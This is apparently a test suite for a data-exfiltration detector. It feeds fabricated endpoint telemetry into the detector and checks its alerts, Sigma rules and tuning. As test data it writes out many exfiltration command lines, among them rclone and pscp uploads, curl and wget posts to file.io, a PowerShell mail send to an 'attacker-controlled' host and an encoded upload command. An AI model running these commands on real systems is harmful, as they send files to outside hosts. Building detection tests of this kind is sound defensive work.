"""Rules: the seeds' five tests and the real Atomic four in five kinds of telemetry, the ports, Sigma, tuning, and the command."""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Iterable
from dataclasses import dataclass
from importlib import resources
from pathlib import Path
from typing import Any

import duckdb
import endpoint_made as made
import pytest

from netexfil import endpoint
from netexfil.endpoint.rules import own, sigma_files, tools
from netexfil.errors import NetexfilError
from netexfil.policy import Policy

SHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
WEB = "$w = New-Object Net.WebClient; $w.UploadData('https://127.0.0.1:4443/u', [IO.File]::ReadAllBytes('C:\\d.bin'))"
MAIL = "$s = New-Object Net.Mail.SmtpClient('smtp.attacker-controlled.com', 587); $s.EnableSsl = $true; $s.Send($m)"
# The five tests of both seeds: image, command line.
TESTS = {
    "1 rclone over SFTP": (r"C:\Temp\rclone.exe", r"rclone.exe copy C:\data sftp://192.0.2.1/drop --sftp-user u --sftp-pass p"),
    "2 pscp": (r"C:\Temp\pscp.exe", r"pscp.exe -pw S3cret C:\data\f.zip user@198.51.100.1:/tmp/"),
    "3 WebClient upload": (SHELL, f'powershell.exe -c "{WEB}"'),
    "4 rclone to MEGA": (r"C:\Temp\rclone.exe", r"rclone.exe --config C:\Users\a\AppData\Local\Temp\rclone_test.conf copy C:\data mega_remote:"),
    "5 mail over TLS": (SHELL, f'powershell.exe -c "{MAIL}"'),
    "atomic 1": (r"C:\Windows\System32\Curl.exe", r'C:\Windows\System32\Curl.exe -k -F "file=@C:\Atomics\artifact" https://file.io/'),
    "atomic 2": ("/usr/bin/curl", "curl -F file=@/atomics/artifact -F maxDownloads=1 -F autoDelete=true https://file.io/"),
    "atomic 3": ("/usr/bin/wget", "wget --post-file=/atomics/artifact --timeout=5 --no-check-certificate https://example.com/ --delete-after"),
    "atomic 4": ("/usr/bin/wget", "wget --post-data=msg=AtomicTestT1048.002 --timeout=5 --no-check-certificate https://example.com/ --delete-after"),
}


def sysmon(image: str, line: str) -> dict[str, Any]:
    return made.flat(made.SYSMON, 1, made.START | {"Image": image, "CommandLine": line, "OriginalFileName": "-", "Hashes": "-"})


def created(image: str, line: str) -> dict[str, Any]:
    return made.flat(made.SECURITY, 4688, made.CREATED | {"NewProcessName": image, "CommandLine": line})


def falcon(image: str, line: str) -> dict[str, Any]:
    return {"event_simpleName": "ProcessRollup2", "aid": "a", "ImageFileName": image.replace("C:", r"\Device\HarddiskVolume3"), "CommandLine": line,
            "ProcessStartTime": "1772600767.0", "TargetProcessId": "1"}


def defender(image: str, line: str) -> dict[str, Any]:
    return {"Timestamp": "2026-03-04T05:06:07Z", "DeviceId": "d", "DeviceName": "ws1", "ActionType": "ProcessCreated", "ProcessCommandLine": line,
            "FileName": image.replace("\\", "/").rsplit("/", 1)[1], "FolderPath": image, "ProcessId": 7}


@dataclass(frozen=True)
class Alert:
    rule: str
    title: str
    severity: str
    confidence: str
    technique: str
    tool: str
    reason: str


def alerts(tmp_path: Path, records: Iterable[dict[str, Any]], policy: Policy | None = None, sigma: str | None = None) -> list[Alert]:
    path = tmp_path / "events.jsonl"
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    con = duckdb.connect()
    assert not endpoint.events(con, [str(path)])
    assert not endpoint.alerts(con, policy or Policy(), sigma)
    return [Alert(*row) for row in con.execute("SELECT rule, title, severity, confidence, technique, tool, reason FROM alert ORDER BY eid").fetchall()]


@pytest.mark.parametrize("source", [sysmon, created, falcon, defender])
@pytest.mark.parametrize("name", TESTS)
def test_each_test_raises_an_alert(tmp_path: Path, source: Any, name: str) -> None:
    [alert] = [alert for alert in alerts(tmp_path, [source(*TESTS[name])]) if alert.rule == "netexfil"]
    assert "T1048.002" in alert.technique
    assert alert.severity in ("medium", "high", "critical")
    assert alert.tool
    assert alert.reason


@pytest.mark.parametrize("text", [WEB, MAIL])
def test_scripts_raise_an_alert(tmp_path: Path, text: str) -> None:
    record = made.flat(made.SHELL, 4104, made.SCRIPT | {"ScriptBlockText": text})
    assert [alert.rule for alert in alerts(tmp_path, [record])] == ["netexfil"]


def test_what_an_encoded_command_hides_is_read(tmp_path: Path) -> None:
    hidden = base64.b64encode(WEB.encode("utf-16-le")).decode()
    assert [alert.tool for alert in alerts(tmp_path, [sysmon(SHELL, f"powershell -nop -enc {hidden}")])] == ["powershell"]


def test_configuration_name_and_connection_of_test_4_and_5(tmp_path: Path) -> None:
    connect = made.CONNECT | {"Image": SHELL, "DestinationPort": "587", "DestinationHostname": "-"}
    got = alerts(tmp_path, [made.flat(made.SYSMON, 11, made.WRITTEN), made.flat(made.SYSMON, 22, made.LOOKUP), made.flat(made.SYSMON, 3, connect)])
    assert [alert.title for alert in got if alert.rule == "netexfil"] == [
        "rclone configuration written", "MEGA's servers looked up by a program that is no browser", "Script host connects to a mail submission port"]


def test_renamed_tools_by_their_own_name_or_hash(tmp_path: Path) -> None:
    renamed = made.START | {"Image": r"C:\Users\Public\svchost.exe", "CommandLine": "svchost.exe x"}
    other = renamed | {"OriginalFileName": "-"}
    got = [alert for alert in alerts(tmp_path, [made.flat(made.SYSMON, 1, data) for data in (made.START, renamed, other)]) if alert.rule == "netexfil"]
    assert [(alert.severity, alert.tool) for alert in got] == [("high", "rclone"), ("critical", "rclone"), ("critical", "rclone")]


# Other ways to write the same: arguments in other order, quoted, abbreviated, in other case; other slashes.
VARIANTS = [
    (r"C:\Program Files\rclone\RCLONE.EXE", r'"C:\Program Files\rclone\RCLONE.EXE" --config="C:\t\a.conf" copyto "C:\data dir\x.7z" remote:bk/x.7z'),
    ("D:/tools/rclone.exe", "D:/tools/rclone.exe sync D:/data remote:"), ("/usr/local/bin/rclone", "rclone --transfers=8 move /data :sftp,host=192.0.2.1:/in"),
    (r"C:\t\pscp.exe", r'"C:\t\pscp.exe" -P 2222 -batch -i k.ppk "C:\my files\a.zip" user@host.example:'),
    (r"C:\Windows\System32\OpenSSH\scp.exe", r"scp.exe -r C:\data\ u@[2001:db8::1]:/in/"), ("/usr/bin/scp", "scp f scp://u@host.example:22//in/f"),
    ("/usr/bin/scp", "scp -o StrictHostKeyChecking=no f 'u@host.example:/dir with blank/'"), ("/usr/bin/curl", "curl -sSkT - sftp://u@192.0.2.1/x"),
    ("/usr/bin/curl", 'curl https://x.example/u --form "my file=@/tmp/a.zip"'), ("/usr/bin/curl", "curl https://x.example -d@/tmp/a"),
    ("/usr/bin/curl", "curl --data-urlencode content@/tmp/a https://x.example"), ("/usr/bin/wget", "wget --post-file /tmp/a https://x.example/"),
    (SHELL, "powershell -c iwr https://x.example/u -Me Post -InF d.zip"), (SHELL, "powershell -c Invoke-RestMethod -Uri https://x.example -Method:Put"),
    (SHELL, "powershell -c curl https://x.example/u -Method POST -Body $b"), (SHELL, "powershell -c INVOKE-WEBREQUEST https://x.example -METHOD 'post'"),
    (SHELL, "powershell -c (new-object net.webclient).uploadfile('https://x.example/u','d.zip')"),
    (SHELL, "powershell -c Send-MailMessage -To a@b.example -SmtpServer s -Port:587 -UseSSL"),
    (r"C:\Windows\System32\cmd.exe", r'cmd.exe /c "C:\Program Files (x86)\WinSCP\winscp.com" /command "put d.zip" exit'),
    (r"C:\Windows\System32\certreq.exe", r"CertReq -Post -config https://x.example/ C:\d.zip o.txt"),
    (r"C:\Windows\Microsoft.NET\Framework64\v3.5\DataSvcUtil.exe", r"DataSvcUtil /out:C:\d.zip /uri:https://x.example/u"),
    (r"C:\Program Files\Windows Defender\ConfigSecurityPolicy.exe", r"ConfigSecurityPolicy.exe C:\d.zip https://x.example/u"),
    (r"C:\a\aws.exe", r'"C:\Program Files\Amazon\AWSCLIV2\aws.exe" s3 sync "C:\my data" s3://b/'), ("/usr/bin/rsync", "rsync -az /data rsync://h.example/in"),
]


def test_other_ways_to_write_the_same_raise_an_alert(tmp_path: Path) -> None:
    raised = [alert.tool for alert in alerts(tmp_path, [sysmon(*case) for case in VARIANTS]) if alert.rule == "netexfil"]
    assert len(raised) == len(VARIANTS)


def test_only_sysmon_and_falcon_pass_the_seeds(tmp_path: Path) -> None:
    """OCSF counts its activities 1, 2, 3 as Sysmon counts its events."""
    common = {"time": 1772600767000, "device": {"hostname": "ws1"}}
    program = {"file": {"path": r"C:\t\rclone.exe"}, "cmd_line": "rclone.exe copy C:\\d r:", "pid": 7}
    launch = common | {"class_uid": 1007, "activity_id": 1, "process": program}
    connect = common | {"class_uid": 4001, "activity_id": 3, "actor": {"process": program}, "src_endpoint": {"ip": "10.1.2.3", "port": 50000},
                        "dst_endpoint": {"ip": "192.0.2.1", "port": 22}}
    assert [alert.rule for alert in alerts(tmp_path, [launch, connect])] == ["netexfil"]


def test_values_beyond_all_measure_stop_no_rule(tmp_path: Path) -> None:
    """A time or severity that no product writes is no value; the record is judged without it."""
    start = made.START | {"UtcTime": "99999999999999999999999.5:3"}
    far = made.flat(made.SYSMON, 1, start) | {"@timestamp": "9999-12-31 23:59:59.999"}
    plain = [{"kind": "alert", "ts": 1772600767, "host": "a", "severity": severity} for severity in (99999999999999, -1, 2)]
    got = alerts(tmp_path, [far, made.flat(made.SYSMON, 1, made.START), *plain])
    assert [alert.rule for alert in got].count("splunk") == 2


BENIGN = [
    ("/usr/bin/curl", "curl -sS -o /dev/null https://mirror.updates.example/pub/pkg8.bin"), ("/usr/bin/curl", "curl -fsSL https://get.example/x.sh"),
    ("/usr/bin/wget", "wget -q -O /dev/null https://mirror.updates.example/pub/pkg1.bin"), ("/usr/bin/git", "git clone -q git.example:/srv/app.git w"),
    ("/usr/bin/ssh", "ssh -tt 198.51.100.1"), ("/usr/bin/ssh", "/usr/bin/ssh git.example git-receive-pack '/srv/app.git'"),
    ("/usr/bin/ssh", "/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git.example git-upload-pack '/srv/app.git'"), ("/usr/bin/ssh", "ssh host rsync --server --sender -logDtpr . /srv"),
    ("/usr/bin/scp", "scp host.example:/etc/motd ."), ("/usr/bin/rsync", "rsync -a host.example:/srv/ /backup/"), ("/usr/bin/rclone", "rclone version"),
    ("/opt/env/bin/python", "python /opt/bin/client.py imap_read imap.partner.example 993"), ("/opt/env/bin/python", "python call.py turn.meet.example 3478 8 120"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer"), ("/usr/bin/aws", "aws s3 cp s3://bucket/x ."), ("/usr/bin/bash", "bash sync.sh"),
    (SHELL, "powershell -c Invoke-WebRequest https://x.example/a.zip -OutFile a.zip"), ("/usr/bin/python3", "python3 -m pip install boto3"),
    (r"C:\Windows\System32\certreq.exe", r"certreq -new request.inf request.req"),
]


@pytest.mark.parametrize(("image", "line"), BENIGN, ids=[line for _, line in BENIGN])
def test_ordinary_work_raises_none(tmp_path: Path, image: str, line: str) -> None:
    assert [alert for alert in alerts(tmp_path, [sysmon(image, line)]) if alert.rule == "netexfil"] == []


def test_the_sigma_files_are_the_table(tmp_path: Path) -> None:
    written = {entry.name: entry.read_text("utf-8") for entry in (resources.files("netexfil.endpoint") / "sigma").iterdir() if entry.name.endswith(".yml")}
    assert written == {sigma_files.file_name(rule, kind): sigma_files.document(rule, kind) for rule in own.rules() for kind in rule["kinds"]}


def test_the_sigma_files_are_valid_and_select_the_same(tmp_path: Path) -> None:
    from sigma.collection import SigmaCollection

    folder = str(resources.files("netexfil.endpoint") / "sigma")
    rules = SigmaCollection.load_ruleset([folder], collect_errors=True).rules
    assert [rule.errors for rule in rules if rule.errors] == []
    assert all({"exfiltration", "t1048.002"} <= {tag.name for tag in rule.tags} for rule in rules)
    assert len({rule.id for rule in rules}) == len(rules)
    records = [sysmon(*test) for test in TESTS.values()] + [sysmon(*case) for case in BENIGN] + [
        made.flat(provider, event, data) for provider, event, data, _ in made.FACTS.values()]
    (tmp_path / "events.jsonl").write_text("".join(json.dumps(record) + "\n" for record in records))
    con = duckdb.connect()
    endpoint.events(con, [str(tmp_path / "events.jsonl")])
    assert endpoint.alerts(con, Policy(), folder) == []
    chosen = "SELECT DISTINCT eid FROM alert WHERE {} ORDER BY eid"
    ours = con.execute(chosen.format("rule = 'netexfil'")).fetchall()
    assert ours
    assert ours == con.execute(chosen.format("starts_with(rule, 'sigma:')")).fetchall()


def test_a_users_rule_is_asked_and_an_unanswerable_one_is_named(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    head = "title: {}\nid: {}\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n    {}\n  condition: sel\nlevel: high\n"
    (rules / "a.yml").write_text(head.format("mine", "11111111-1111-1111-1111-111111111111", "CommandLine|contains|all: ['rclone', '192.0.2.?']"))
    (rules / "b.yml").write_text(head.format("other", "21111111-1111-1111-1111-111111111111", "IntegrityLevel: High"))
    (rules / "c.yml").write_text("{ not: [yaml")
    (tmp_path / "e.jsonl").write_text(json.dumps(sysmon(*TESTS["1 rclone over SFTP"])))
    con = duckdb.connect()
    endpoint.events(con, [str(tmp_path / "e.jsonl")])
    notes = endpoint.alerts(con, Policy(), str(rules))
    assert con.execute("SELECT title, severity FROM alert WHERE rule = 'sigma:11111111-1111-1111-1111-111111111111'").fetchall() == [("mine", "high")]
    assert [Path(note.file).name for note in notes] == ["b.yml", "c.yml"]
    assert "IntegrityLevel" in notes[0].reason


@pytest.mark.parametrize(("network", "hosts"), [("192.0.2.0/25", {"a"}), ("192.0.0.0/16", {"a", "b"}), ("0.0.0.0/0", {"a", "b"})])
def test_networks_in_rules_are_asked_of_all_addresses(tmp_path: Path, network: str, hosts: set[str]) -> None:
    (tmp_path / "a.yml").write_text("title: net\nid: 11111111-1111-1111-1111-111111111111\nlogsource:\n  category: network_connection\ndetection:\n"
                                    f"  sel:\n    DestinationIp|cidr: {network}\n  condition: sel\nlevel: high\n")
    far = {"a": "192.0.2.1", "b": "192.0.2.200", "c": "2001:db8::1", "d": "fe80::1:2"}
    (tmp_path / "e.jsonl").write_text("".join(json.dumps({"kind": "net_conn", "ts": 1.7e9, "host": host, "remote_ip": ip}) + "\n" for host, ip in far.items()))
    con = duckdb.connect()
    endpoint.events(con, [str(tmp_path / "e.jsonl")])
    assert not endpoint.alerts(con, Policy(), str(tmp_path / "a.yml"))
    assert {host for (host,) in con.execute("SELECT host FROM alert JOIN event USING (eid)").fetchall()} == hosts


def test_a_tuning_knob_lowers_and_says_so(tmp_path: Path) -> None:
    from netexfil.endpoint.rules import tuning

    tuned = Policy(tuning={"backup": {"users": ["svc_backup"], "destinations": ["backup.corp.example"]}})
    path = tmp_path / "e.jsonl"
    line = "rclone sync /data :sftp: --sftp-host backup.corp.example"
    path.write_text("".join(json.dumps(sysmon("/usr/bin/rclone", line) | {"User": user}) + "\n" for user in ("svc_backup", "ada")))
    con = duckdb.connect()
    endpoint.events(con, [str(path)])
    endpoint.alerts(con, Policy())
    tuning.apply(con, tuned)
    got = con.execute("SELECT severity, reason FROM alert WHERE rule = 'netexfil' ORDER BY eid").fetchall()
    assert [severity for severity, _ in got] == ["info", "high"]
    assert "tuning.backup" in got[0][1]


def test_the_policy_knows_every_knob() -> None:
    from netexfil import defaults
    from netexfil.endpoint.rules import tuning

    assert set(defaults.TUNING) == set(tuning.KNOBS)
    assert set(defaults.TUNING_FIELDS) == set(tuning.FIELDS)


def test_every_name_is_of_one_tool() -> None:
    names = [name for entry in tools.TOOLS.values() for name in entry]
    assert len(names) == len(set(names))
    assert all(name == name.lower() for name in names)


def run(*arguments: str) -> Any:
    from click.testing import CliRunner

    from netexfil.commands.events import command

    result = CliRunner().invoke(command, list(arguments), standalone_mode=False)
    if result.exception and not isinstance(result.exception, NetexfilError):
        raise result.exception
    return result


def test_the_command(tmp_path: Path) -> None:
    path = tmp_path / "e.jsonl"
    path.write_text(json.dumps(sysmon(*TESTS["1 rclone over SFTP"])) + "\n" + json.dumps(made.flat(made.SYSMON, 3, made.CONNECT)) + "\n")
    plain, logscale, splunk, ours = (run(str(path), "--format", "jsonl", *more) for more in ((), ("--rule", "logscale"), ("--rule", "splunk"), ("--rule", "netexfil")))
    for result, count in ((plain, 2), (logscale, 2), (splunk, 2), (ours, 1)):
        assert (result.return_value, result.stderr, len(result.stdout.splitlines())) == (0, "", count)
    newest = json.loads(logscale.stdout.splitlines()[0])
    assert list(newest) == ["@timestamp", "ComputerName", "UserName", "ImageFileName", "CommandLine", "ParentImageFileName", "RemoteAddressIP4", "RemotePort",
                            "DetectionType", "ToolName", "RcloneCopy", "RcloneRemote"]
    assert (newest["DetectionType"], newest["RemotePort"]) == ("NetworkConnection", "22")
    assert json.loads(splunk.stdout.splitlines()[1])["SuspicionScore"] == 3


def test_the_command_tells_what_it_could_not_read(tmp_path: Path) -> None:
    path = tmp_path / "e.jsonl"
    path.write_text(json.dumps(sysmon(*TESTS["1 rclone over SFTP"])) + "\n{\"broken\n")
    explained, damaged = run(str(path), "--explain", "--format", "jsonl"), run(str(path), "--format", "jsonl")
    assert [(row["what"], row["count"]) for row in map(json.loads, explained.stdout.splitlines())] == [("read", 1), ("refused", 1), ("all", 2)]
    assert (damaged.return_value, len(damaged.stdout.splitlines())) == (3, 1)
    assert "line 2" in damaged.stderr
    assert run(str(tmp_path / "none")).exception.exit_code == 4
    assert "rclone.exe" in run(str(path)).stdout


CORPUS = Path(os.environ.get("NETEXFIL_CORPUS", Path(__file__).parents[2] / "shared/corpus"))


@pytest.mark.skipif(not (CORPUS / "lab").is_dir(), reason="the lab corpus is not here")
@pytest.mark.parametrize("part", range(6))
def test_lab_uploads_raise_an_alert_and_ordinary_work_none(part: int) -> None:
    for truth in sorted((CORPUS / "lab").glob("*.truth.json"))[part::6]:
        con = duckdb.connect()
        endpoint.events(con, [str(truth).replace(".truth.json", ".endpoint.jsonl")])
        endpoint.alerts(con, Policy())
        got = {pid for (pid,) in con.execute("SELECT pid FROM alert a JOIN event e USING (eid) WHERE a.rule = 'netexfil'").fetchall()}
        document = json.loads(truth.read_text())
        uploads = {flow["pid"] for flow in document["flows"] if flow["label"] in ("exfil", "authorised", "tunnel", "exfil-cleartext-leg")
                   and flow["on_wire_at_host"]["sent"]["unique_payload"] > 100_000} if document["flows"] else set()
        benign = {flow["pid"] for flow in document["flows"] if flow["label"] == "benign"} - {
            flow["pid"] for flow in document["flows"] if flow["label"] not in ("benign", "pull")}
        assert uploads <= got, truth.name
        assert not benign & got, truth.name
